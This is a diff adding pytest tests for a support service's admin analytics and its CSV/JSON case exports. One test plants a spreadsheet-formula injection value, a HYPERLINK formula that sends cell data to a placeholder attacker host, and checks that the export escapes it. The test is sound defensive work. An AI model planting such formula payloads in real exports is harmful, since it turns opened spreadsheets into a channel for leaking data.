@@ -54,6 +54,11 @@ ADMIN_GETS = [
     "/v1/admin/tickets/ho-x",
     "/v1/admin/export/turns.csv",
     "/v1/admin/export/turns.json",
+    "/v1/admin/analytics/cases",
+    "/v1/admin/analytics/cases/timeseries",
+    "/v1/admin/export/cases.csv",
+    "/v1/admin/export/cases.json",
+    "/v1/admin/vocabulary",
 ]
 ADMIN_POSTS = ["/v1/admin/suggestions/1/accept", "/v1/admin/suggestions/1/reject", "/v1/admin/tickets/ho-x/close"]
 
@@ -156,6 +161,10 @@ def test_turns_export(admin_client: TestClient) -> None:
     assert as_json and all(r["day"] == END.isoformat() for r in as_json)
     empty = admin_client.get("/v1/admin/export/turns.csv?since=2030-01-01", headers=AUTH)
     assert empty.text.startswith("id,conversation_id,")  # the header even without rows
+    # Diagnosis turns carry their cause (empty while undecided); other turns none.
+    diagnosed = [r for r in rows if r["outcome"] == "diagnosis"]
+    assert diagnosed and {r["cause"] for r in diagnosed} > {""}
+    assert all(r["cause"] == "" for r in rows if r["outcome"] != "diagnosis")
 
 
 def test_accepting_a_suggestion_writes_the_knowledge_copy(admin_client: TestClient) -> None:
@@ -197,6 +206,86 @@ def test_tickets_listed_shown_and_closed(admin_client: TestClient) -> None:
     opened = admin_client.get("/v1/admin/tickets?status=open&limit=1000", headers=AUTH).json()["tickets"]
     assert created["id"] not in {t["id"] for t in opened}
     assert admin_client.get("/v1/admin/tickets/ho-missing", headers=AUTH).status_code == 404
+
+
+# --- connectivity cases ----------------------------------------------------------------
+
+ENDINGS = ("concluded", "handed_off", "abandoned", "open")
+
+
+def test_cases_by_cause_and_how_they_ended(admin_client: TestClient) -> None:
+    body = admin_client.get("/v1/admin/analytics/cases", headers=AUTH).json()
+    assert body["cases"] > 0 and body["idle_minutes"] == 30 and body["as_of"].endswith("Z")
+    assert body["cases"] == sum(body[e] for e in ENDINGS)
+    for e in ("cases", *ENDINGS):
+        assert body[e] == sum(r[e] for r in body["by_cause"]), e
+    assert body["concluded"] and body["handed_off"] and body["abandoned"]
+    causes = [r["cause"] for r in body["by_cause"]]
+    assert None in causes and "unknown" in causes and causes[-1] is None  # undecided last
+    slack = admin_client.get("/v1/admin/analytics/cases?channel=slack", headers=AUTH).json()
+    assert 0 < slack["cases"] < body["cases"]
+
+
+def test_cases_per_day(admin_client: TestClient) -> None:
+    body = admin_client.get("/v1/admin/analytics/cases/timeseries", headers=AUTH).json()
+    days = body["days"]
+    assert len(days) == 14 and days[-1]["day"] == END.isoformat()
+    total = admin_client.get("/v1/admin/analytics/cases", headers=AUTH).json()
+    for e in ("cases", *ENDINGS):
+        assert sum(d[e] for d in days) == total[e], e
+    one = admin_client.get(f"/v1/admin/analytics/cases/timeseries?since={END}&until={END}", headers=AUTH).json()
+    assert one["days"] == [days[-1]]
+
+
+@pytest.mark.parametrize(
+    ("path", "header"),
+    [
+        ("/v1/admin/analytics/cases?format=csv", "cause,cases,concluded,handed_off,abandoned,open"),
+        ("/v1/admin/analytics/cases/timeseries?format=csv", "day,cases,concluded,handed_off,abandoned,open"),
+        ("/v1/admin/export/cases.csv", "conversation_id,day,channel,language,started_at,last_at,turns,cause,ending"),
+    ],
+)
+def test_cases_as_csv(admin_client: TestClient, path: str, header: str) -> None:
+    r = admin_client.get(path, headers=AUTH)
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
+    assert r.text.splitlines()[0].startswith(header)
+    assert len(r.text.splitlines()) > 2
+
+
+def test_the_cases_export_lists_every_case(admin_client: TestClient) -> None:
+    total = admin_client.get("/v1/admin/analytics/cases", headers=AUTH).json()
+    rows = admin_client.get("/v1/admin/export/cases.json", headers=AUTH).json()
+    assert len(rows) == total["cases"]
+    assert {e: sum(r["ending"] == e for r in rows) for e in ENDINGS} == {e: total[e] for e in ENDINGS}
+    handed = [r for r in rows if r["ending"] == "handed_off"]
+    assert all(r["ticket_id"] for r in handed)
+    as_csv = list(csv.DictReader(io.StringIO(admin_client.get("/v1/admin/export/cases.csv", headers=AUTH).text)))
+    assert [r["conversation_id"] for r in as_csv] == [r["conversation_id"] for r in rows]
+    empty = admin_client.get("/v1/admin/export/cases.csv?since=2030-01-01", headers=AUTH)
+    assert empty.text == "conversation_id,day,channel,language,started_at,last_at,turns,cause,ending,ticket_id\n"
+
+
+def test_seeded_tickets_carry_their_case(admin_client: TestClient) -> None:
+    tickets = admin_client.get("/v1/admin/tickets?status=all&limit=1000", headers=AUTH).json()["tickets"]
+    with_case = [t for t in tickets if t["case"] is not None]
+    assert with_case and len(with_case) < len(tickets)
+    assert all(t["case"]["checks"] and t["case"]["target"] for t in with_case)
+
+
+def test_the_vocabulary_names_every_cause(admin_client: TestClient) -> None:
+    from diagnosis import CAUSE_IDS
+
+    body = admin_client.get("/v1/admin/vocabulary", headers=AUTH).json()
+    assert set(body["causes"]) == set(CAUSE_IDS)
+    assert body["causes"]["sg_no_matching_allow"]["en"] and body["causes"]["sg_no_matching_allow"]["zh"]
+    assert "{target}" in body["checks"]["sg_inbound"]["en"] and body["services"]["ssh"]["en"]
+
+
+def test_a_bad_filter_on_cases_is_the_one_error_shape(admin_client: TestClient) -> None:
+    r = admin_client.get("/v1/admin/analytics/cases?since=2025-12-01&until=2025-11-01", headers=AUTH)
+    assert r.status_code == 422
+    [problem] = r.json()["detail"]
+    assert (problem["loc"], problem["type"]) == (["query", "since"], "filter_invalid") and "is after" in problem["msg"]
 
 
 @pytest.mark.parametrize(
@@ -268,3 +357,40 @@ def test_the_turns_export_never_writes_a_formula(admin_client: TestClient) -> No
     exported = admin_client.get(f"/v1/admin/export/turns.csv?since={END}", headers=AUTH).text
     rows = [r for r in csv.DictReader(io.StringIO(exported)) if r["conversation_id"] == "csv-attack"]
     assert [r["text"] for r in rows] == ["'" + attack]
+
+
+def test_the_cases_export_never_writes_a_formula(admin_client: TestClient) -> None:
+    from datetime import datetime
+
+    from sqlalchemy import insert
+
+    from deflection.models import Conversation
+
+    store = admin_client.app.state.services.deflection  # type: ignore[attr-defined]
+    at = datetime(2025, 11, 29, 13, 0, 0)
+    sender = '=HYPERLINK("http://evil.example/?q="&A1,"case")'  # sender ids come from the channels
+    with store.engine.begin() as conn:
+        conn.execute(
+            insert(Conversation),
+            [
+                {
+                    "id": sender,
+                    "channel": "+rest",
+                    "language": "en",
+                    "started_at": at,
+                    "day": at.date(),
+                    "last_at": at,
+                    "turns": 1,
+                    "questions": 1,
+                    "handed_off": False,
+                    "useful": 0,
+                    "not_useful": 0,
+                    "case_started_at": at,
+                    "case_cause": "os_firewall_drop",
+                }
+            ],
+        )
+    exported = admin_client.get(f"/v1/admin/export/cases.csv?since={END}", headers=AUTH).text
+    [row] = [r for r in csv.DictReader(io.StringIO(exported)) if r["conversation_id"].endswith('"case")')]
+    assert (row["conversation_id"], row["channel"]) == ("'" + sender, "'+rest")
+    assert (row["cause"], row["ending"]) == ("os_firewall_drop", "concluded")
